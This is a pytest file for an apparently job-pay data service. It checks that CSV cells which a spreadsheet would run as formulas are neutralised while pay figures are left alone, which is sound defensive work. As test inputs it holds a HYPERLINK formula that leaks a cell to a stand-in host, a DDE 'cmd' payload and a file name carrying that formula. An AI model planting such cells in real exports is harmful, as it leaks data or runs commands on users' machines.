"""CSV the server sends: a text cell a spreadsheet would run as a formula is neutralized, the
figures are not; error bodies say what is wrong without the server's paths or process ids."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from careerbench.api.app import create_app
from careerbench.formatting import spreadsheet_safe, spreadsheet_safe_csv
from careerbench.ingest import ingest
from tests.conftest import FIXTURES

HOSTILE = '=HYPERLINK("https:example.invalid?leak="&A1,"open")'


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tleading tab", "'\tleading tab"),
        ("-$12,345", "-$12,345"),
        ("+$1,200", "+$1,200"),
        ("+12%", "+12%"),
        ("-$144k", "-$144k"),
        ("-", "-"),
        ("-12.5", "-12.5"),
        ("ML engineer", "ML engineer"),
    ],
)
def test_a_formula_cell_is_neutralized_and_a_figure_is_not(cell: str, expected: str) -> None:
    assert spreadsheet_safe(cell) == expected


def test_a_csv_without_formula_cells_is_unchanged() -> None:
    text = 'year,pay\r\n1,"$121,098"\r\n2,-$5\r\n'
    assert spreadsheet_safe_csv(text) == text


def test_a_load_named_like_a_formula_is_not_a_formula_in_the_data_download(
    tmp_path: Path,
) -> None:
    mine = tmp_path / f"{HOSTILE}.csv"
    mine.write_text("year,title,total_comp\n2025,=1+2 Engineer,200000\n")
    store = tmp_path / "s.duckdb"
    ingest(store, aijobs_path=FIXTURES / "aijobs_sample.csv", csv_paths=[mine])
    response = TestClient(create_app(store)).get("/download/data.csv")
    assert response.status_code == 200
    assert int(response.headers["content-length"]) == len(response.content)
    rows = list(csv.reader(io.StringIO(response.text)))
    assert all(spreadsheet_safe(cell) == cell for row in rows for cell in row)
    hostile = next(row for row in rows if any(HOSTILE in cell for cell in row))
    assert f"'{HOSTILE}.csv" in hostile
    aijobs = next(row for row in rows if row[0] == "aijobs")
    assert aijobs[2:5] == ["300", "300", "0"]
